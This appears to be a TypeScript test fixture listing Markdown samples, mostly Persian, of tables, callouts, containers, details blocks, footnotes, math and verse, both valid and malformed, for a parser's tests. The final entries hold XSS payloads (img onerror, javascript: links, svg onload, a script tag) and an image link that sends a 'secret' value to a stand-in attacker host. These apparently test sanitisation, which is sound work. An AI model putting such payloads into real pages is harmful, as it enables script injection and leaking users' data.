// Markdown of every structure beyond CommonMark, whole and broken: material of the machine's tests.

const ZWNJ = '\u200c';

/** A text for each structure, then what is nearly one. */
export const STRUCTURES: readonly string[] = [
  '| شهر | جمعیت |\n|:---|---:|\n| تهران | ۹٬۰۰۰٬۰۰۰ |\n| یزد | ۵۰۰٬۰۰۰ |\n\nپایان',
  'بند\n| a | b | c |\n| :-: | --- | :-- |\n| **x** | `a\\|b` | [l](https://e.com) |\n| | | |\n| only |\n|1|2|3| 4 | 5 |\nafter',
  '> | a | b |\n> |---|---|\n> | 1 | 2 |\n\n- item\n\n  | c | d |\n  |---|---|\n  | 3 | 4 |\n- next\n| e |\n|---|\n| 5 |',
  '| a | b |\n|---|\n| 1 | 2 |\n\n| not | a table\n\n|\n||\n| a |\n| b |\n|---|\n| c |',
  '> [!NOTE]\n> یادداشت **مهم**\n> - فهرست\n\n> [!CAUTION] در همان سطر\n\n> [!unknown]\n> نقل\n\n> [!tip]\n\n> بعد',
  ':::tip عنوان\nمتن\n\n- یک\n- دو\n:::\n\n:::هشدار\nناشناس\n:::\n\n:::یادداشت\nدرون\n\n:::danger\nتودرتو\n:::\nباز درون\n:::\nبیرون\n:::',
  '<details>\n<summary>پاسخ **کوتاه**</summary>\n\nبند یک\n\n| a |\n|---|\n| 1 |\n\n</details>\n\n<details><summary>در یک سطر</summary>\nمتن\n</details>\nبیرون\n</details>',
  ':::details چرا؟\nچون.\n:::\n<details open>\n<script>x</script>\n<summary>دیر است</summary>\n</details>\n<summary>تنها</summary>',
  'جمله[^1] و جملهٔ دیگر[^الف] و باز[^1]!\n\n[^1]: نخست با *تأکید*\nدنبالهٔ آن\n[^الف]: دوم\n[^1]: دوباره\n\nپایان[^گم]',
  'شگفتا![^x] و [^] و [^ بد] و [^۲].\n\n- [^y]: در فهرست\n\n[^2]: با رقم فارسی یکی است',
  'مساحت $A = \\pi r^2$ است و \\(E=mc^2\\) و $$x^2$$ هم.\n\n$$\n\\int_0^1 x\\,dx\n= \\frac12\n$$\n\n\\[ a \\\\[2pt] b \\]\n\n- مورد\n\n  $$y$$\n\n> $$z$$',
  'قیمت $5 تا $10 و US$20 و $ 3 $ و a$b$c و \\$x\\$ و $باز\n\n$$$$\n\n$$\nناتمام\n\nبند | دیگر\n\n# تیتر',
  'چند `$x$` و **$a_1$** و [$t$](https://e.com) و $`a`$ و $$a$$ b\n$$c$$ d\n\\[نه\\] اینجا',
  `:::verse\nبشنو از نی چون حکایت می${ZWNJ}کند\tاز جدایی${ZWNJ}ها شکایت می${ZWNJ}کند\nکز نیستان تا مرا ببریده${ZWNJ}اند / در نفیرم **مرد و زن** نالیده${ZWNJ}اند\n\nنیمهٔ یک\nنیمهٔ دو\nتنها\n\nالف / ب / ج |\nو/یا | نه\n:::\nنثر`,
  ':::بیت\n- نه فهرست\n> نه نقل\n```\n| نه | جدول |\n:::شعر\n:::: \nبیرون\n:::verse\nباز تا پایان /',
  '![alt](http://evil.example/?q=secret) و ![a][b] و سلام! [پیوند](https://e.com) و [![x](http://e.com/x.png)](https://e.com)',
  '| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| ![i](http://e.com/i.png) | <svg onload=y> |',
];
